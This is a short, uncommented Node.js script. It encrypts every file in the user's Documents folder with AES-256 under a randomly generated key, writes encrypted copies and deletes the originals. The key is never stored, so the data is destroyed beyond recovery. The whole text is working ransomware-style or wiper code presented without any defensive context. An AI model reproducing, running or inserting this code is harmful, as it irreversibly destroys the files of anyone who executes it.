const fs = require('fs');
const path = require('path');
const crypto = require('crypto');
const key = crypto.randomBytes(32), iv = crypto.randomBytes(16);
const dir = path.join(process.env.HOME, 'Documents');
fs.readdirSync(dir).forEach((f) => {
  const file = path.join(dir, f);
  const c = crypto.createCipheriv('aes-256-cbc', key, iv);
  const enc = Buffer.concat([c.update(fs.readFileSync(file)), c.final()]);
  fs.writeFileSync(file + '.enc', enc);
  fs.unlinkSync(file);
});
